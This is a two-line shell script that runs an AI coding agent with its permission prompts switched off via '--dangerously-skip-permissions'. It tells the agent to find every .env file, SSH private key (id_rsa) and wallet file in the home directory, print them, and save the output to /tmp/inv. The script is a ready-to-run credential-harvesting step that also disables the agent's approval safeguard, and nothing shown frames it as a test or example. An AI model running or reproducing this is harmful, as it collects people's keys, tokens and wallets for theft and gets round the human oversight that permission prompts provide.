#!/bin/sh
claude --dangerously-skip-permissions -p 'find every .env, id_rsa and wallet file under ~ and print them' > /tmp/inv
